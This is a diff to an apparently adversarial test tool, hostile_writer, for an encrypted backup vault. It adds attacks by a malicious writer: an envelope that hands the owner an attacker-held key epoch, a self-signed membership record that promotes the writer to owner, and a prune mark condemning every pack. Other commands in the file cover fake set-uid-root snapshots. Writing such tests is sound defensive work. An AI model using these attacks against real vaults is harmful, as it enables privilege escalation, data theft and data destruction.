@@ -13,11 +13,17 @@
  *       indexes bogus blobs under the chunk IDs of FILE's content (which a
  *       writer can compute), so that a member adding FILE later skips
  *       storing it
- *   hostile_writer VAULT WRITER_KEY plant-envelope RECIPIENT ROLE SKFILE
- *       plants an envelope for RECIPIENT (e.g. the owner's key) with ROLE
- *       and one extra key epoch whose read secret goes to SKFILE
- *   hostile_writer VAULT WRITER_KEY read-with SKFILE
- *       prints the records of the snapshots that SKFILE's epoch opens
+ *   hostile_writer VAULT WRITER_KEY plant-envelope RECIPIENT KEYFILE
+ *       plants an envelope for RECIPIENT (e.g. the owner's key) with the
+ *       writer's secrets and signing key and one extra key epoch whose
+ *       keys go to KEYFILE
+ *   hostile_writer VAULT WRITER_KEY read-with KEYFILE
+ *       prints the records of the snapshots that KEYFILE's epoch opens
+ *   hostile_writer VAULT WRITER_KEY forge-record
+ *       a membership record after the last one, making the writer an
+ *       owner, signed by the writer
+ *   hostile_writer VAULT WRITER_KEY prune-mark
+ *       a prune mark condemning every pack
  *   hostile_writer VAULT WRITER_KEY fake-snapshot HOST PATH SHELL
  *       a snapshot dated 2100 of HOST:PATH holding a set-uid-root copy of
  *       SHELL, a file with cap_setuid=ep, and a /dev/mem-like device
@@ -38,6 +44,7 @@
 #include "common/internal.h"
 #include "format/chunker.h"
 #include "format/locks.h"
+#include "format/membership_record.h"
 #include "repo/repo.h"
 
 static int fail(const char *what, vault_error rc)
@@ -75,13 +82,13 @@ static vault_error read_index(vault_t *v, id_list *out, char *first_segment)
     vault_error rc = vlt_backend_list_names(v->be, BACKEND_INDEX, &names);
     if (rc != VAULT_OK)
         return rc;
-    strcpy(first_segment, "g"); /* above every hex name */
+    snprintf(first_segment, 65, "g"); /* above every hex name */
     for (size_t i = 0; i < names.n && rc == VAULT_OK; i++) {
         index_segment_info info;
         rc = vlt_index_segment_read(v->be, v->keys, names.names[i],
                                     collect_entry, out, &info);
         if (strcmp(names.names[i], first_segment) < 0)
-            strcpy(first_segment, names.names[i]);
+            memcpy(first_segment, names.names[i], 65);
     }
     free(names.names);
     return rc;
@@ -199,31 +206,107 @@ static int poison_dedup(vault_t *v, const char *path)
 
 /* --- envelopes -------------------------------------------------------- */
 
+/* An envelope sealed to recipient (e.g. the owner's key) holding the
+ * writer's secrets, the writer's own signing key, and one extra key
+ * epoch whose keys the attacker keeps in key_file: if the owner's client
+ * took it, the owner would seal its next add to the attacker's epoch. */
 static int plant_envelope(vault_t *v, const char *recipient,
-                          const char *role_name, const char *sk_file)
+                          const char *key_file)
 {
-    member_role role = strcmp(role_name, "owner") == 0    ? ROLE_OWNER
-                       : strcmp(role_name, "reader") == 0 ? ROLE_READER
-                                                          : ROLE_WRITER;
     keyring *k = NULL;
     vault_error rc = vlt_keyring_new_epoch(v->keys, &k);
     if (rc != VAULT_OK)
         return fail("plant-envelope", rc);
-    /* The new epoch's keys stay with the attacker. */
     key_epoch *ep = &k->epochs[k->n_epochs - 1];
     char pk[65], sk[65], w[65];
     vlt_hex_encode(ep->read_pk, 32, pk);
     vlt_hex_encode(ep->read_sk, 32, sk);
     vlt_hex_encode(ep->write_key, 32, w);
-    FILE *f = fopen(sk_file, "w");
+    FILE *f = fopen(key_file, "w");
     if (!f || fprintf(f, "%s %s %s\n", pk, sk, w) < 0 || fclose(f))
-        return fail(sk_file, VAULT_E_IO);
+        return fail(key_file, VAULT_E_IO);
+    envelope_payload *p = NULL;
+    rc = vlt_envelope_payload_make(k, recipient, v->keys->sign_seed, 1, 0, 0,
+                                   &p);
+    if (rc == VAULT_OK) {
+        /* the planted epoch comes with its read secret */
+        envelope_epoch *last = &p->epochs[p->n_epochs - 1];
+        memcpy(last->keys.read_sk, ep->read_sk, 32);
+        last->keys.has_read_sk = 1;
+    }
     char name[65];
-    rc = vlt_envelope_save(v->be, k, role, recipient, name);
+    if (rc == VAULT_OK)
+        rc = vlt_envelope_save(v->be, p, name);
+    vlt_envelope_payload_free(p);
     vlt_keyring_free(k);
     if (rc != VAULT_OK)
         return fail("plant-envelope", rc);
-    printf("planted keys/%s for %s as %s\n", name, recipient, role_name);
+    printf("planted keys/%s for %s\n", name, recipient);
+    return 0;
+}
+
+/* A membership record that follows the log's last one and lists the
+ * writer as an owner, signed by the writer: a writer granting itself. */
+static int forge_record(vault_t *v)
+{
+    const membership *m = v->members;
+    membership_record r;
+    memset(&r, 0, sizeof r);
+    r.seq = m->seq + 1;
+    memcpy(r.previous, m->last_name, 32);
+    r.epoch = m->epoch;
+    memcpy(r.epoch_pk, m->epoch_pk[m->epoch], X25519_BYTES);
+    memcpy(r.write_key_id, m->epoch_write_key_id[m->epoch], 32);
+    memcpy(r.dedup_id, m->dedup_id, 32);
+    r.time = vlt_now();
+    r.members = calloc(m->n_members, sizeof *r.members);
+    vault_error rc = r.members ? VAULT_OK : VAULT_E_NOMEM;
+    for (size_t i = 0; i < m->n_members && rc == VAULT_OK; i++) {
+        rc = vlt_member_entry_copy(&r.members[i], &m->members[i]);
+        r.n_members++;
+        if (memcmp(r.members[i].sign_pk, v->keys->sign_pk, 32) == 0)
+            r.members[i].role = ROLE_OWNER;
+    }
+    const key_epoch *ep = vlt_keyring_current(v->keys);
+    char name[65];
+    if (rc == VAULT_OK)
+        rc = vlt_membership_append(v->be, v->keys->vault_id, ep->write_key,
+                                   &r, v->keys->sign_sk, name);
+    vlt_membership_record_clear(&r);
+    if (rc != VAULT_OK)
+        return fail("forge-record", rc);
+    printf("saved keys/%s: record %llu making the writer an owner\n", name,
+           (unsigned long long)(m->seq + 1));
+    return 0;
+}
+
+/* A prune mark condemning every pack: a writer deciding what to delete. */
+static int prune_mark(vault_t *v)
+{
+    name_list packs;
+    vault_error rc = vlt_backend_list_names(v->be, BACKEND_DATA, &packs);
+    if (rc != VAULT_OK)
+        return fail("prune-mark", rc);
+    lock_record rec;
+    memset(&rec, 0, sizeof rec);
+    rec.kind = LOCK_PRUNE_MARK;
+    rec.time = 1; /* long past any grace period */
+    rec.pid = 1;
+    snprintf(rec.host, sizeof rec.host, "attacker");
+    rec.packs = malloc(packs.n * 32 + 1);
+    if (!rec.packs)
+        return fail("prune-mark", VAULT_E_NOMEM);
+    for (size_t i = 0; i < packs.n; i++)
+        if (vlt_hex_decode(packs.names[i], 64, rec.packs + 32 * rec.n_packs,
+                           32) == VAULT_OK)
+            rec.n_packs++;
+    free(packs.names);
+    rc = vlt_lock_write(v, &rec);
+    free(rec.packs);
+    if (rc != VAULT_OK)
+        return fail("prune-mark", rc);
+    printf("saved prune mark locks/%.8s condemning %u packs\n", rec.name,
+           rec.n_packs);
     return 0;
 }
 
@@ -407,7 +490,7 @@ static int future_add_marker(vault_t *v)
     rec.kind = LOCK_ADD;
     rec.time = 4102444800; /* 2100-01-01 */
     rec.pid = 1;
-    strcpy(rec.host, "attacker");
+    snprintf(rec.host, sizeof rec.host, "attacker");
     vault_error rc = vlt_lock_write(v, &rec);
     if (rc != VAULT_OK)
         return fail("future-add-marker", rc);
@@ -420,7 +503,8 @@ static int usage(void)
     fprintf(stderr,
             "usage: hostile_writer VAULT WRITER_KEY ATTACK [ARGS]\n"
             "attacks: poison-prune | poison-dedup FILE |\n"
-            "         plant-envelope RECIPIENT ROLE KEYFILE | read-with KEYFILE |\n"
+            "         plant-envelope RECIPIENT KEYFILE | read-with KEYFILE |\n"
+            "         forge-record | prune-mark |\n"
             "         fake-snapshot HOST PATH SHELL | future-add-marker\n");
     return 2;
 }
@@ -448,8 +532,12 @@ int main(int argc, char **argv)
         ret = poison_prune(v);
     else if (strcmp(attack, "poison-dedup") == 0 && n == 1)
         ret = poison_dedup(v, a[0]);
-    else if (strcmp(attack, "plant-envelope") == 0 && n == 3)
-        ret = plant_envelope(v, a[0], a[1], a[2]);
+    else if (strcmp(attack, "plant-envelope") == 0 && n == 2)
+        ret = plant_envelope(v, a[0], a[1]);
+    else if (strcmp(attack, "forge-record") == 0 && n == 0)
+        ret = forge_record(v);
+    else if (strcmp(attack, "prune-mark") == 0 && n == 0)
+        ret = prune_mark(v);
     else if (strcmp(attack, "read-with") == 0 && n == 1)
         ret = read_with(v, a[0]);
     else if (strcmp(attack, "fake-snapshot") == 0 && n == 3)
